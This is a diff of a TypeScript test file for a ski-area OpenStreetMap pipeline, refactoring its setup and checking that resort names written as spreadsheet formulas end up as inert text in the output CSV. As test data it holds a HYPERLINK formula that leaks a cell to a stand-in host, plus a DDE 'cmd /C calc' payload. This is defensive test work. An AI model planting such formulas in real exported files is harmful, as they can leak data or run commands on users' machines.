@@ -4,11 +4,9 @@ import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { originalText } from "../../lib/csv.ts";
 import { Duck, sqlString } from "../../lib/duckdb.ts";
-import { startTestS3, type TestS3 } from "../../lib/testing/s3rver.ts";
 import { OUTPUT_FILES } from "./outputs.ts";
 import { OsmBuilder, writeXmlAsPbf } from "./synthetic-osm.ts";
-import { BUCKET } from "./testing/helpers.ts";
-import { extractAndAnalyze, putRaw } from "./testing/pipeline.ts";
+import { analyzedRegion } from "./testing/pipeline.ts";
 
 /**
  * Issue 21, item 8: anyone can edit OSM, so a ski area named `=HYPERLINK("http://…"&A1)` must not reach
@@ -18,12 +16,10 @@ import { extractAndAnalyze, putRaw } from "./testing/pipeline.ts";
 const HYPERLINK = '=HYPERLINK("http://x.test/?leak="&A1,"open")';
 const AT = "@SUM(1+1)*cmd|' /C calc'!A0";
 
-let s3: TestS3;
 let tmp: string;
-let out = "";
+let region: Awaited<ReturnType<typeof analyzedRegion>> | undefined;
 beforeAll(async () => {
   tmp = await mkdtemp(join(tmpdir(), "ski-atlas-csv-injection-"));
-  s3 = await startTestS3({ buckets: [BUCKET] });
   const b = new OsmBuilder();
   for (const [name, lon] of [[HYPERLINK, 10.3], [AT, 10.4]] as const) {
     b.way(b.rect(lon, 46.9, lon + 0.04, 46.93), { landuse: "winter_sports", name });
@@ -32,20 +28,16 @@ beforeAll(async () => {
   }
   const pbf = join(tmp, "hostile.osm.pbf");
   await writeXmlAsPbf(b.toXml(), pbf);
-  await putRaw(s3.s3, "hostile", pbf);
-  const run = await extractAndAnalyze(s3.s3, s3.env, "hostile");
-  expect(run.analyze.code, run.analyze.stderr).toBe(0);
-  out = run.dir;
+  region = await analyzedRegion("hostile", pbf);
 });
 afterAll(async () => {
-  await s3?.stop();
+  await region?.stop();
   await rm(tmp, { recursive: true, force: true });
-  if (out) await rm(out, { recursive: true, force: true });
 });
 
 describe("ski_areas_analyzed.csv with resort names that are spreadsheet formulas", () => {
   it("GIVEN OSM names starting with = and @ WHEN analyzed THEN their cells are inert text, the original one quote away, and the numbers are numbers", async () => {
-    const file = join(out, OUTPUT_FILES.analyzedCsv);
+    const file = join(region!.dir, OUTPUT_FILES.analyzedCsv);
     const text = await readFile(file, "utf8");
     expect(text).toContain(`"'=HYPERLINK(""http://x.test/?leak=""&A1,""open"")"`);
     expect(text).toContain(`,'${AT},`);
